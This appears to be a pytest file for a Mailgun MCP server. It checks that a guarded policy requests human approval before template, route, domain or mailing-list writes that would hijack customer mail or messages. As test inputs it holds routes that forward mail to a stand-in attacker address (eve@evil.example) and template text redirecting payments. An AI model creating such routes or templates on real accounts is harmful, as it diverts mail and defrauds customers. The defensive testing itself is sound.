"""The attacker wants to change what customers read, or where mail goes, by creating something that takes its place.

Creating is a plain write. But a domain's template is used instead of the account's, a route gets the mail of a
catch_all() route behind it, and a new domain or mailing list can get mail that another domain or a route handled.
"""

from typing import Any

import pytest

from mailgun_mcp.policy.profiles import profile
from mailgun_mcp.simulator.model.account import Account
from mailgun_mcp.simulator.model.routes import Route
from mailgun_mcp.simulator.model.templates import Template
from tests.support.calls import run
from tests.support.undoing import NAME, Mailgun, account_to_change, services_on

pytestmark = pytest.mark.anyio


@pytest.fixture
def account() -> Account:
    account = account_to_change()
    account.templates["receipt"] = Template("1", "receipt", account.clock.now())
    account.domains["example.com"].settings["wildcard"] = True
    account.routes.by_id["1"] = Route("1", 1, f'match_recipient("help.*@{NAME}")', 1.0, ["stop()"], priority=1)
    return account


def template(name: str) -> tuple[str, dict[str, Any]]:
    return "create_template", {"domain": NAME, "name": name, "template": "Pay to this account from now on"}


def route(expression: str, priority: int) -> tuple[str, dict[str, Any]]:
    action = ['forward("eve@evil.example")']
    return "create_route", {"expression": expression, "action": action, "priority": priority}


@pytest.mark.parametrize(
    ("call", "reason"),
    [
        (template("receipt"), "which changes what customers read"),
        (template("RECEIPT"), "which changes what customers read"),
        (template("receipt "), "which would change what customers read"),
        (template("ｒeceipt"), "which would change what customers read"),
        (route("catch_all()", 0), "no longer reaches the catch_all() route"),
        (route(f'match_recipient(".*@{NAME}")', 7), "no longer reaches the catch_all() route"),
        (("create_domain", {"domain": "Mail.Example.com"}), "receives for its subdomains"),
        (("create_mailing_list", {"address": f"help-desk@{NAME}"}), "can go to the list instead"),
    ],
    ids=["template", "other case", "blank", "wide letters", "catch_all", "route", "domain", "list"],
)
async def test_a_person_is_asked_what_would_be_taken_over(
    account: Account, call: tuple[str, dict[str, Any]], reason: str
) -> None:
    mailgun = Mailgun(account)
    async with services_on(mailgun, account, policy=profile("guarded")) as services:
        outcome = await run(services, *call)
    assert outcome.approval is not None, outcome.text
    assert reason in outcome.approval["form"]


@pytest.mark.parametrize(
    "call",
    [
        template("spring"),
        route(f'match_recipient("new@{NAME}")', 8),
        ("create_domain", {"domain": "mail.example.net"}),
        ("create_domain", {"domain": "notexample.com"}),
        ("create_mailing_list", {"address": f"news-of-spring@{NAME}"}),
    ],
    ids=["template", "route", "domain", "domain of a similar name", "list"],
)
async def test_what_takes_nothing_over_is_a_plain_write(account: Account, call: tuple[str, dict[str, Any]]) -> None:
    async with services_on(Mailgun(account), account, policy=profile("guarded")) as services:
        outcome = await run(services, *call)
    assert (outcome.kind, outcome.approval) == ("done", None), outcome.text


async def test_a_version_of_a_template_that_replaces_the_accounts_is_asked_about(account: Account) -> None:
    account.domains[NAME].templates["receipt"] = Template("1", "receipt", account.clock.now())
    async with services_on(Mailgun(account), account, policy=profile("guarded")) as services:
        version = {"domain": NAME, "template_name": "receipt", "version": "v1", "template": "Pay here"}
        assert (await run(services, "create_template_version", version)).approval is not None
        other = {**version, "template_name": "receipts"}
        assert (await run(services, "create_template_version", other)).approval is None


TEN = [f'forward("person{number}@example.org")' for number in range(10)]


@pytest.mark.parametrize(
    ("change", "reasons", "absent"),
    [
        (
            {"expression": f'match_recipient(".*@{NAME}")'},
            ["no longer reaches the catch_all() route"],
            ["more than 10"],
        ),
        ({"priority": 0}, ["no longer reaches the catch_all() route"], ["more than 10"]),
        ({"action": ['forward("eve@evil.example")']}, ["more than 10 addresses"], ["no longer reaches"]),
        (
            {"action": ['forward("eve@evil.example")'], "priority": 0},
            ["no longer reaches the catch_all() route", "more than 10 addresses"],
            [],
        ),
        ({"priority": 9}, [], ["no longer reaches the catch_all() route"]),
    ],
    ids=["expression", "priority", "action", "both", "behind the other"],
)
async def test_a_change_of_a_route_says_what_it_would_take_over(
    account: Account, change: dict[str, Any], reasons: list[str], absent: list[str]
) -> None:
    routes = account.routes.by_id
    routes["1"] = Route("1", 1, "catch_all()", 1.0, TEN, priority=5)
    routes["2"] = Route("2", 1, 'match_header("subject", "bill")', 1.0, ["stop()"], priority=7)
    async with services_on(Mailgun(account), account, policy=profile("guarded")) as services:
        outcome = await run(services, "update_route", {"id": "2", **change})
    assert outcome.approval is not None, outcome.text
    form = outcome.approval["form"]
    assert [one for one in reasons if one not in form] == []
    assert [one for one in absent if one in form] == []
